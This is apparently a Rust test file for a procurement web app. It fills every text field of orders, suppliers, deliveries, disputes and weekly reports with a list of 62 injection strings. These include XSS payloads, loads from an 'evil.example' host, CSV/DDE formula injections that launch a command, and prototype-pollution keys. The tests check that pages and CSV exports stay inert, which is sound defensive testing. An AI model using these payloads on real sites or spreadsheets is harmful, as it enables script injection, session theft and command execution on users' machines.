//! Texts that would be markup, script or a formula somewhere else: wherever they stand, they stay text.

use landfall_workspace::record::{Key, Kind, Record, Stamp};

use super::*;
use crate::data::data_page;
use crate::draft::kind_at;
use crate::orders::orders_page;
use crate::pictures::PictureEvent;
use crate::saved::saved_page;

/// Texts by which pages were broken into, and formulas.
const EVIL: [&str; 62] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=http://evil.example><button>x</button></form>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "\" style=\"background:url(http://evil.example)",
    "x\" autofocus onfocus=\"alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<x onclick=alert(1)>x",
    "\u{202e}<script>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\")",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    "__proto__",
    "constructor",
];

/// The page with this text in every field of text, and in every text of what is stored.
fn with(text: &str) -> Model {
    let mut model = example();
    let html = drawn(&all_open(&model), form);
    let names = fields(&html)
        .into_iter()
        .map(|field| (field.path, field.kind));
    let texts = names.filter(|(path, kind)| {
        *kind == FieldKind::Text && kind_at(path).is_none() && path != "destination"
    });
    for path in texts.map(|(path, _)| path).chain(["name".to_owned()]) {
        model = typed(&model, &path, text);
    }
    model = pressed(&pressed(&model, "order", "save"), "schedule", "save");
    let quoted = serde_json::to_string(text).unwrap();
    let order = format!(
        r#"{{"number":{quoted},"source":{{"platform":"1688","orderId":{quoted}}},"supplierName":{quoted},"status":{quoted},"trackingNumber":{quoted},"goodsCny":"1","paidCny":"2","freightCny":"0","adjustmentCny":"0","notes":{quoted},"staff":{quoted},"productLink":{quoted},"lines":[{{"itemCode":{quoted},"title":{quoted},"unitPriceCny":"1","quantity":"1","unit":{quoted},"offerId":{quoted}}}]}}"#
    );
    let stamp = || Stamp::new("d9", "2026-11-01T00:00:00Z");
    let order = Record::new(Key::derived(Kind::Order, "1"), &order, stamp());
    let supplier = format!(r#"{{"name":{quoted},"shopName":{quoted},"link":{quoted}}}"#);
    let supplier = Record::new(Key::derived(Kind::Supplier, "1"), &supplier, stamp());
    let edited =
        |to: &str| supplier.edited(&format!(r#"{{"name":{quoted},"notes":{to}}}"#), stamp());
    let both = edited(&quoted).merged(&edited("\"other\""));
    let events = [
        WorkEvent::Records(vec![order.write(), both.write()]),
        WorkEvent::End,
    ];
    let mut model = worked(&model, text, events).0;
    model.moment = moment();
    model.apply();
    while model.apply_more() {}
    model = sent(&model, Msg::Step);
    let ids: Vec<String> = model
        .saved
        .iter()
        .map(|saved| saved.id.to_string())
        .collect();
    for id in ids {
        model = pressed(&model, &format!("saved.{id}"), "compare");
    }
    model = suppliers_with(&model, text, &quoted);
    let receipt = format!(
        r#"{{"orderId":{quoted},"arrivedAt":"2026-11-01T00:00:00Z","step":"photos","pictures":[{{"name":{quoted},"takenAt":"2026-11-01T00:00:00Z","subject":{quoted},"kind":{quoted}}}]}}"#
    );
    let receipt = Record::new(Key::new(Kind::Receipt, "x3").unwrap(), &receipt, stamp());
    model = sent(
        &model,
        Msg::Store(StoreEvent::Changed(vec![receipt.write()])),
    );
    model = sent(&model, Msg::Went("#/receiving/x3".to_owned()));
    let keys = model.expect_photos("photo.carton", vec![text.into()]);
    for key in keys {
        let refused = PictureEvent::Refused(key, "data:,".into(), text.to_owned());
        model = sent(&model, Msg::Pictures(refused));
    }
    model = worked(&model, text, [WorkEvent::Refused(vec![text.to_owned()])]).0;
    model.is_printing = true;
    model
}

/// The page of a supplier and of an article with this text in every field, and in what is stored of them.
fn suppliers_with(model: &Model, text: &str, quoted: &str) -> Model {
    let inquiry = format!(
        r#"{{"product":{quoted},"link":{quoted},"quantity":"5","sentAt":"2026-11-01T00:00:00Z","supply":{quoted},"defects":{quoted},"paymentTerms":{quoted}}}"#
    );
    let supplier = format!(
        r#"{{"name":{quoted},"redFlags":[{quoted}],"paymentTerms":{quoted},"evidence":{{"membership":{quoted},"creditGrade":{quoted}}},"approvals":[{{"status":"suspended","by":{quoted},"at":"2026-11-01T00:00:00Z","reason":{quoted}}}],"inquiries":[{inquiry}]}}"#
    );
    let sku = format!(
        r#"{{"sku":{quoted},"title":{quoted},"samples":[{{"supplierId":"x1","result":{quoted},"specification":{{}}}},{{"supplierId":{quoted}}}],"agreed":[{{"supplierId":{quoted},"minimumCny":"1","maximumCny":"2","by":{quoted}}}],"specification":{{"colour":{quoted},"photos":[{quoted}]}}}}"#
    );
    let stamp = || Stamp::new("d9", "2026-11-01T00:00:00Z");
    let records = [(Kind::Supplier, "x1", supplier), (Kind::Sku, "x2", sku)];
    let records = records
        .map(|(kind, id, data)| Record::new(Key::new(kind, id).unwrap(), &data, stamp()).write());
    let mut model = sent(model, Msg::Store(StoreEvent::Changed(records.into())));
    for place in ["article/x2", "x1"] {
        model = sent(&model, Msg::Went(format!("#/suppliers/{place}")));
        let html = drawn(&model, suppliers);
        for field in fields(&html) {
            if field.kind == FieldKind::Text
                && field.path.starts_with("desk.")
                && kind_at(&field.path).is_none()
            {
                model = typed(&model, &field.path, text);
            }
        }
        model = sent(&model, Msg::Settled(model.change));
    }
    model
}

fn suppliers(model: &Rc<Model>) -> Html {
    let at = |place: &str| {
        let model = sent(model, Msg::Went(format!("#/suppliers{place}")));
        html! { <>{ crate::suppliers::suppliers_page(&model) }{ crate::app::sheet(&model) }</> }
    };
    html! { <>{ at("") }{ at("/x1") }{ at("/article/x2") }</> }
}

/// The photos of a delivery, all of them and one large.
fn photos(model: &Rc<Model>) -> Html {
    let shown = |model: &Model| {
        let desk = model.desk.as_ref().unwrap();
        crate::receiving::photos::photos(model, desk, None)
    };
    let name = model.pictures().next().unwrap().name.clone();
    let large = pressed(model, &format!("receiving.photo.{name}"), "open");
    html! { <>{ shown(model) }{ shown(&large) }</> }
}

fn everything(model: &Rc<Model>) -> Html {
    html! {
        <>
            { crate::app::navigation(model) }
            { crate::app::notices(model) }
            { crate::app::cost(model) }
            { saved_page(model) }
            { data_page(model) }
            { orders_page(model) }
            { suppliers(model) }
            { photos(model) }
            { crate::app::quotation(model) }
        </>
    }
}

#[test]
fn no_text_becomes_markup_or_a_formula() {
    let shape = |html: &str| -> Vec<String> {
        let shape = |tag: &Tag| format!("{} {:?}", tag.name, tag.names());
        tags(html).iter().map(shape).collect()
    };
    let plain = with("harmless");
    let html = drawn(&plain, everything);
    assert!(html.matches("harmless").count() > 30, "{html}");
    let expected = shape(&html);
    for text in EVIL {
        let model = with(text);
        let html = drawn(&model, everything);
        assert!(html.matches("harmless").count() == 0);
        assert_eq!(shape(&html), expected, "{text}");
        for (path, action) in [("order", "csv"), ("data", "csv")] {
            let done = update(&model, Msg::Pressed(path.to_owned(), action.to_owned())).1;
            let Some(Effect::Download(_, table)) = done.first() else {
                panic!("{done:?}")
            };
            let cells = table.trim_start_matches('\u{feff}').split(['\n', ',']);
            let is_formula = |cell: &str| {
                let cell = cell.trim_start_matches('"');
                cell.starts_with(['=', '+', '@', '\t', '＝']) || cell.starts_with("-2+3")
            };
            let formulas: Vec<&str> = cells.filter(|cell| is_formula(cell)).collect();
            assert!(formulas.is_empty(), "{text}: {formulas:?}");
        }
    }
}

/// An order that is to be placed and one of the log, with this text in every text of theirs.
fn orders_with(text: &str) -> [Model; 2] {
    let quoted = serde_json::to_string(text).unwrap();
    let stamp = || Stamp::new("d9", "2026-11-01T00:00:00Z");
    let finding = format!(
        r#"{{"rule":"price-increase","outcome":"hardStop","subject":{quoted},"observed":"12","because":{{"maximumPercent":"15","previousPriceCny":"10","previousDate":"2026-10-30"}}}}"#
    );
    let strange = format!(r#"{{"rule":{quoted},"outcome":"notice","observed":{quoted}}}"#);
    let order = |earlier: &str| {
        format!(
            r#"{{"number":{quoted},"supplierName":{quoted},"status":{quoted},"stage":"paid","staff":{quoted},"productLink":{quoted},"priceScreenshot":{quoted},"trackingNumber":{quoted},"notes":{quoted},"lines":[{{"itemCode":{quoted},"title":{quoted},"unitPriceCny":"1","quantity":"1","unit":{quoted}}}],"landedCost":{{"currency":{quoted},"total":"1","components":{{{quoted}:"1"}}}},"findings":[{finding},{strange}]{earlier}}}"#
        )
    };
    let order = order(&format!(
        r#","earlier":[{{"order":{},"until":"2026-11-02T00:00:00Z","by":{quoted}}}]"#,
        order("")
    ));
    let decision = format!(
        r#"{{"orderId":"o1","rule":{quoted},"finding":{finding},"outcome":"approve","condition":{quoted},"by":{quoted},"reason":{quoted},"at":"2026-11-02T00:00:00Z"}}"#
    );
    let records = [
        Record::new(Key::new(Kind::Order, "o1").unwrap(), &order, stamp()),
        Record::new(Key::new(Kind::Decision, "c1").unwrap(), &decision, stamp()),
    ];
    let texts = records.iter().map(Record::write).collect();
    let shop = sent(&example(), Msg::Store(StoreEvent::Changed(texts)));
    let kept = sent(&shop, Msg::Went("#/orders/o1".to_owned()));
    let begun = pressed(&shop, "placing", "new");
    let place = begun.desk.as_ref().unwrap().key.id().to_owned();
    let mut begun = sent(&begun, Msg::Went(format!("#/orders/{place}")));
    let given = [
        ("lines[0].unitPriceCny", "999"),
        ("lines[0].quantity", "999"),
        ("exchangeRate.cnyPerUnit", "7"),
    ];
    for (field, value) in given {
        begun = typed(&begun, &format!("desk.data.{field}"), value);
    }
    // The stops, and with them the owner's fields, are there from here on.
    for _ in 0..2 {
        let html = drawn(&begun, |model| orders_page(model));
        let texts = fields(&html).into_iter();
        let texts =
            texts.filter(|field| field.kind == FieldKind::Text && kind_at(&field.path).is_none());
        for field in texts {
            begun = typed(&begun, &field.path, text);
        }
    }
    begun = pressed(&begun, "placing", "decide:reject:order-value:");
    [begun, kept]
}

#[test]
fn no_text_of_an_order_becomes_markup() {
    fn whole(model: &Rc<Model>) -> Html {
        let sheet = crate::orders::order_sheet(model).unwrap_or_default();
        html! { <>{ orders_page(model) }{ sheet }</> }
    }
    let shape = |html: &str| -> Vec<String> {
        let shape = |tag: &Tag| format!("{} {:?}", tag.name, tag.names());
        tags(html).iter().map(shape).collect()
    };
    let plain = orders_with("harmless").map(|model| drawn(&model, whole));
    for html in &plain {
        assert!(html.matches("harmless").count() > 10, "{html}");
    }
    for text in EVIL {
        for (model, plain) in orders_with(text).iter().zip(&plain) {
            assert_eq!(shape(&drawn(model, whole)), shape(plain), "{text}");
        }
    }
}

/// New rules and a comparison of quotes, with this text in every text of theirs.
fn rules_and_quotes_with(text: &str) -> [Model; 2] {
    let filled = |model: Model, page: Part| {
        let html = drawn(&model, page);
        let texts = fields(&html).into_iter();
        let texts =
            texts.filter(|field| field.kind == FieldKind::Text && kind_at(&field.path).is_none());
        let texts = texts.map(|field| field.path);
        texts.fold(model, |model, path| typed(&model, &path, text))
    };
    let rules = sent(&example(), Msg::Went("#/policy".to_owned()));
    let rules = filled(rules, |model| crate::policy::policy_page(model));
    let rules = typed(&rules, "desk.data.homeCurrency", "USD");
    let rules = pressed(&rules, "policy", "make");
    let named = typed(&example(), "name", text);
    let begun = pressed(&named, "quotes.", "new");
    let place = begun.desk.as_ref().unwrap().key.id().to_owned();
    let mut quotes = sent(&begun, Msg::Went(format!("#/quotes/{place}")));
    for (index, price) in ["18", "17"].into_iter().enumerate() {
        let path = format!("desk.data.quotes[{index}].prices.l0");
        quotes = typed(&quotes, &path, price);
    }
    let quotes = filled(quotes, |model| crate::quotes::quotes_page(model));
    let quotes = typed(&quotes, "desk.data.choice.quote", "0");
    [rules, pressed(&quotes, "quotes.", "choose")]
}

#[test]
fn no_text_of_rules_and_quotes_becomes_markup() {
    let page = |model: &Rc<Model>| {
        html! { <>{ crate::policy::policy_page(model) }{ crate::quotes::quotes_page(model) }</> }
    };
    let drawn_with = |text: &str| rules_and_quotes_with(text).map(|model| drawn(&model, page));
    let shape = |html: &String| -> Vec<String> {
        let shape = |tag: &Tag| format!("{} {:?}", tag.name, tag.names());
        tags(html).iter().map(shape).collect()
    };
    let plain = drawn_with("harmless");
    for html in &plain {
        assert!(html.contains("harmless"), "{html}");
    }
    let expected = plain.map(|html| shape(&html));
    for text in EVIL {
        let found = drawn_with(text).map(|html| shape(&html));
        assert_eq!(found, expected, "{text}");
    }
}

/// The page of receiving and a dispute, with this text in every text of theirs.
fn disputes_with(text: &str) -> [Model; 2] {
    let quoted = serde_json::to_string(text).unwrap();
    let order = format!(
        r#"{{"number":{quoted},"source":{{"platform":"1688","orderId":{quoted}}},"supplierName":{quoted},"paidCny":"5","lines":[]}}"#
    );
    let defect = format!(r#"{{"class":{quoted},"kind":{quoted},"count":2}}"#);
    let receipt = format!(
        r#"{{"orderId":"o1","arrivedAt":"2026-11-22T00:00:00Z","inWarehouseAt":"2026-11-21T00:00:00Z","photos":[{quoted}],"pictures":[{{"name":{quoted},"takenAt":"2026-11-22T00:00:00Z"}}],"lots":[{{"sku":{quoted},"ordered":"5","received":"4","passed":false,"notes":{quoted},"defects":[{defect}]}}]}}"#
    );
    let dispute = format!(
        r#"{{"orderId":"o1","receiptId":"r1","reason":{quoted},"openedAt":"2026-11-22T00:00:00Z","wish":{quoted},"state":"answered","evidence":[{quoted}],"counts":[{{"sku":{quoted},"ordered":"5","received":"4","notes":{quoted},"defects":[{defect}]}}],"messages":[{{"at":"2026-11-22T01:00:00Z","by":{quoted},"text":{quoted}}},{{"at":"2026-11-22T02:00:00Z","by":"supplier","text":{quoted}}}]}}"#
    );
    let closed = format!(
        r#"{{"orderId":"o1","reason":"defects","openedAt":"2026-11-22T00:00:00Z","closedAt":"2026-11-22T03:00:00Z","resolution":{quoted}}}"#
    );
    let stamp = || Stamp::new("d9", "2026-11-01T00:00:00Z");
    let records = [
        (Kind::Order, "o1", order),
        (Kind::Receipt, "r1", receipt),
        (Kind::Dispute, "p1", dispute),
        (Kind::Dispute, "p2", closed),
    ];
    let records = records
        .map(|(kind, id, data)| Record::new(Key::new(kind, id).unwrap(), &data, stamp()).write());
    let model = sent(&example(), Msg::Store(StoreEvent::Changed(records.into())));
    let list = sent(&model, Msg::Went("#/receiving".to_owned()));
    let mut dispute = sent(&model, Msg::Went("#/receiving/p1".to_owned()));
    let html = drawn(&dispute, |model| crate::receiving::receiving_page(model));
    for field in fields(&html) {
        let path = field.path.as_str();
        if field.kind == FieldKind::Text && kind_at(path).is_none() && path != "desk.wish" {
            dispute = typed(&dispute, path, text);
        }
    }
    [list, dispute]
}

#[test]
fn no_text_of_a_dispute_becomes_markup() {
    let page = |model: &Rc<Model>| crate::receiving::receiving_page(model);
    let shape = |html: &str| -> Vec<String> {
        let shape = |tag: &Tag| format!("{} {:?}", tag.name, tag.names());
        tags(html).iter().map(shape).collect()
    };
    let plain = disputes_with("harmless").map(|model| drawn(&model, page));
    for (html, least) in plain.iter().zip([6, 20]) {
        let found = html.matches("harmless").count();
        assert!(found >= least, "{found} of {least}: {html}");
    }
    for text in EVIL {
        for (model, plain) in disputes_with(text).iter().zip(&plain) {
            let html = drawn(model, page);
            assert_eq!(shape(&html), shape(plain), "{text}");
            assert!(!html.contains("href=\"javascript"), "{text}");
        }
    }
}

/// A delivery at each of its steps, with this text in every text of it and of its order.
fn receiving_with(text: &str) -> Vec<Model> {
    let quoted = serde_json::to_string(text).unwrap();
    let order = format!(
        r#"{{"number":{quoted},"supplierName":{quoted},"status":{quoted},"stage":"paid","trackingNumber":{quoted},"lines":[{{"itemCode":{quoted},"title":{quoted},"unitPriceCny":"1","quantity":"10"}}]}}"#
    );
    let receipt = |step: &str, rest: &str| {
        format!(
            r#"{{"orderId":"o1","arrivedAt":"2026-11-02T00:00:00Z","zone":{quoted},"seed":{quoted},"step":"{step}","staff":{quoted},"notes":{quoted},"agentCovered":[{quoted}],"varianceLoggedAt":"2026-11-02T00:00:00Z","lots":[{{"sku":{quoted},"ordered":"10","received":"9","cartons":3,"sample":3,"opened":[1],"unpacked":[1],"notes":{quoted},"defects":[{{"class":{quoted},"kind":{quoted},"unit":1}},{{"class":"major","kind":{quoted},"count":2}}]}},{{"sku":{quoted},"received":"5","sample":3,"plan":{{"level":{quoted},"severity":{quoted},"aql":{{{quoted}:"1"}}}}}}]{rest}}}"#
        )
    };
    let steps = ["cartons", "sample", "inspect", "photos", "variance"];
    let open = steps.iter().map(|step| receipt(step, ""));
    let done = receipt(
        "variance",
        r#","result":"hold","finishedAt":"2026-11-02T01:00:00Z""#,
    );
    let receipts = open.chain([done]).enumerate();
    let stamp = || Stamp::new("d9", "2026-11-01T00:00:00Z");
    let receipts = receipts.map(|(number, data)| {
        let key = Key::new(Kind::Receipt, &format!("r{number}")).unwrap();
        Record::new(key, &data, stamp()).write()
    });
    let order = Record::new(Key::new(Kind::Order, "o1").unwrap(), &order, stamp());
    let texts: Vec<String> = receipts.chain([order.write()]).collect();
    let count = texts.len() - 1;
    let shop = sent(&example(), Msg::Store(StoreEvent::Changed(texts)));
    let list = sent(&shop, Msg::Went("#/receiving".to_owned()));
    let list = typed(&list, "receiving.run.query", text);
    let runs = (0..count).map(|number| {
        let run = sent(&shop, Msg::Went(format!("#/receiving/r{number}")));
        let run = typed(&run, "receiving.run.other", text);
        let scanned = format!("{}{text}?", crate::keys::SCAN);
        pressed(&run, "receiving.run.scan", &scanned)
    });
    [list].into_iter().chain(runs).collect()
}

#[test]
fn no_text_of_a_delivery_becomes_markup() {
    fn whole(model: &Rc<Model>) -> Html {
        let sheet = crate::receiving::receiving_sheet(model).unwrap_or_default();
        html! { <>{ crate::receiving::receiving_page(model) }{ sheet }</> }
    }
    let drawn_with = |text: &str| -> Vec<String> {
        let models = receiving_with(text).into_iter();
        models.map(|model| drawn(&model, whole)).collect()
    };
    let shape = |html: &String| -> Vec<String> {
        let shape = |tag: &Tag| format!("{} {:?}", tag.name, tag.names());
        tags(html).iter().map(shape).collect()
    };
    let plain = drawn_with("harmless");
    for html in &plain {
        assert!(html.matches("harmless").count() > 3, "{html}");
    }
    let expected: Vec<Vec<String>> = plain.iter().map(shape).collect();
    for text in EVIL {
        let found: Vec<Vec<String>> = drawn_with(text).iter().map(shape).collect();
        assert_eq!(found, expected, "{text}");
    }
}

/// A week with this text in every text of what was put to the owner, of the report and of the staff.
fn week_with(text: &str) -> Model {
    let quoted = serde_json::to_string(text).unwrap();
    let finding = format!(
        r#"{{"rule":"price-increase","outcome":"hardStop","subject":{quoted},"observed":"12","because":{{"maximumPercent":"15","previousPriceCny":"10","previousDate":"2026-10-30"}}}}"#
    );
    let missing = format!(r#"{{"rule":{quoted},"outcome":"missing","subject":{quoted}}}"#);
    let order = |staff: &str| {
        format!(
            r#"{{"number":{quoted},"supplierName":{quoted},"staff":{staff},"createdAt":"2026-11-18T00:00:00Z","lines":[{{"itemCode":{quoted},"unitPriceCny":"1","quantity":"1"}}],"findings":[{finding},{missing}]}}"#
        )
    };
    let asked = |rest: &str| {
        format!(
            r#"{{"subject":{quoted},"raisedAt":"2026-11-18T01:00:00Z","raisedBy":{quoted},"loss":"900"{rest}}}"#
        )
    };
    let answered = format!(
        r#","rule":{quoted},"resolvedAt":"2026-11-18T02:00:00Z","resolvedBy":{quoted},"resolution":{quoted}"#
    );
    let decision = format!(
        r#"{{"orderId":"o1","rule":"price-increase","finding":{finding},"outcome":"approve","by":{quoted},"reason":{quoted},"at":"2026-11-18T02:00:00Z"}}"#
    );
    let report = format!(
        r#"{{"week":"2026-W47","from":"2026-11-15T16:00:00Z","to":"2026-11-22T16:00:00Z","figures":{{"placed":{{"total":{quoted},"orders":[]}}}},"notes":{quoted},"confirmedBy":{quoted},"confirmedAt":"2026-11-20T00:00:00Z","sopReview":{{"at":"2026-11-17T00:00:00Z","by":{quoted},"notes":{quoted}}}}}"#
    );
    let began = format!(r#"{{"staff":{quoted},"startedAt":"2026-11-01T16:00:00Z"}}"#);
    let run = format!(
        r#"{{"staff":{quoted},"orderId":"o1","startedAt":"2026-11-18T00:00:00Z","missing":[{quoted}],"late":[{quoted}],"notes":{quoted}}}"#
    );
    let records = [
        (Kind::Order, "o1", order(&quoted)),
        (Kind::Order, "o2", order(r#""Somebody""#)),
        (Kind::Escalation, "e1", asked("")),
        (Kind::Escalation, "e2", asked(&answered)),
        (
            Kind::Escalation,
            "e3",
            asked(r#","rule":"price-increase","orderId":"o1""#),
        ),
        (Kind::Decision, "c1", decision),
        (Kind::Report, "w1", report),
        (Kind::Run, "u1", began),
        (Kind::Run, "u2", run),
    ];
    let stamp = || Stamp::new("d9", "2026-11-01T00:00:00Z");
    let records = records
        .map(|(kind, id, data)| Record::new(Key::new(kind, id).unwrap(), &data, stamp()).write());
    let model = sent(&example(), Msg::Store(StoreEvent::Changed(records.into())));
    let model = sent(&model, Msg::Step);
    let mut model = sent(&model, Msg::Went("#/week".to_owned()));
    model = pressed(&model, "week.escalations.e3", "open");
    model = pressed(&model, "week.staff.o1", "note");
    for field in [
        "question.text",
        "question.by",
        "question.order",
        "question.loss",
        "owner",
        "answers.e3.text",
        "answers.e3.priceIncreasePercent",
        "report.notes",
        "report.by",
        "sop.by",
        "sop.notes",
        "staff.name",
        "staff.began",
        "staff.note",
        "staff.reviewer",
    ] {
        model = typed(&model, &format!("desk.data.{field}"), text);
    }
    pressed(&model, "week.escalations", "ask:en")
}

#[test]
fn no_text_of_a_week_becomes_markup() {
    fn whole(model: &Rc<Model>) -> Html {
        let sheet = crate::week::week_sheet(model).unwrap_or_default();
        html! { <>{ crate::week::week_page(model) }{ sheet }</> }
    }
    let shape = |html: &str| -> Vec<String> {
        let shape = |tag: &Tag| format!("{} {:?}", tag.name, tag.names());
        tags(html).iter().map(shape).collect()
    };
    let plain = drawn(&week_with("harmless"), whole);
    let found = plain.matches("harmless").count();
    assert!(found > 60, "{found}: {plain}");
    for text in EVIL {
        let html = drawn(&week_with(text), whole);
        assert_eq!(shape(&html), shape(&plain), "{text}");
        assert!(!html.contains("href=\"javascript"), "{text}");
    }
}
